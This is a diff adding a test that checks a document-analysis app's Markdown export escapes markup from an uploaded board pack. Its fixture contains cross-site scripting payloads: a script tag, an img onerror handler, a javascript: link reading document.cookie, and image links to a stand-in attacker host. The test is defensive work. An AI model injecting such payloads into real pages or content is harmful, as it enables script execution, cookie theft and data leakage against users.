@@ -7,6 +7,7 @@ import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it } from
 import { analysisResults, documentChunks, organizations } from '../../api/db/schema'
 import { ANALYSIS_TYPES } from '../../shared/analysis'
 import { ANALYSIS_FIXTURES } from '../unit/support/analysis-fixtures'
+import { renderedMarkdown, seenText, withoutAddressLinks } from '../unit/support/rendered-markdown'
 import { type Reply, startChatCompletionServer } from './support/chat-completion-server'
 import { demoAndHarbor, type Harness, type Session, startApi, type TwoOrganizations } from './support/harness'
 import { type CapturedLogs, captureLogs } from './support/logs'
@@ -316,6 +317,61 @@ describe('document analysis, offline', () => {
     expect(risks).toContain(
       ': “The largest, Solent Marine Group, accounted for 38% of 2024 revenue under a supply agreement that runs until June 2026.”',
     )
+  })
+})
+
+describe('the Markdown export of a document that carries markup', () => {
+  // What an uploaded file can hold: a script, an image that runs script when it fails to load, a
+  // link to a script and an image on another site, each in a sentence the analysis quotes.
+  const HOSTILE = [
+    'Harbor Marine board pack for the 2024 sale process.',
+    "Revenue grew 12% to £20.1 million in 2024 <script>alert('revenue')</script> on new naval contracts.",
+    'EBITDA was £3.6 million <img src=x onerror="alert(1)"> for an EBITDA margin of 17.9% in 2024.',
+    'The chart ![t](https://evil.example.com/pixel.png?c=revenue) shows net debt of £4.2 million at the end of 2024.',
+    'The [data room](javascript:alert(document.cookie)) holds the £1.1 million capital expenditure plan for 2025.',
+  ].join('\n')
+  let api: Harness
+  let people: TwoOrganizations
+  let board: number
+
+  beforeAll(async () => {
+    api = await startApi()
+    people = await demoAndHarbor(api)
+    const response = await upload(
+      api,
+      people.analyst,
+      { name: 'board-pack.txt', bytes: HOSTILE },
+      { title: 'Board <b>pack</b> ![x](https://evil.example.com/t.png)' },
+      DEMO,
+    )
+    board = ((await response.json()) as { id: number }).id
+    expect(await processed(api, people.analyst, board)).toMatchObject({ processing_status: 'processed' })
+  }, 60_000)
+  afterAll(() => api.close())
+
+  it('writes the document’s words as literal text: no raw HTML, script link or image', async () => {
+    for (const type of ['summary', 'key-findings'] as const) {
+      expect((await analyse(api, people.analyst, { document_id: board, type })).status).toBe(200)
+      const markdown = await (
+        await api.request(`/analysis/export/?document_id=${board}&type=${type}`, {
+          token: people.analyst.access,
+          org: DEMO,
+        })
+      ).text()
+      // The hostile sentences are there, as text.
+      expect(markdown).toContain("&lt;script&gt;alert('revenue')&lt;/script&gt;")
+      expect(markdown).toContain('&lt;img src=x onerror="alert(1)"&gt;')
+      expect(markdown).not.toMatch(/<script|<img|<b>|javascript:|!\[|(?<!\\)\]\(/i)
+      // Rendered, it makes no element of them (a bare address may become a link showing itself): a
+      // reader sees the words as the document has them.
+      const html = renderedMarkdown(markdown)
+      expect(withoutAddressLinks(html)).not.toMatch(/<(script|img|a|b)[\s>]/i)
+      const seen = seenText(html)
+      expect(seen).toContain('Board <b>pack</b> ![x](https://evil.example.com/t.png)')
+      expect(seen).toContain('The chart ![t](https://evil.example.com/pixel.png?c=revenue) shows net debt')
+      expect(seen).toContain('The [data room](javascript:alert(document.cookie)) holds')
+      expect(seen).toContain('EBITDA was £3.6 million <img src=x onerror="alert(1)"> for an EBITDA margin')
+    }
   })
 })
 
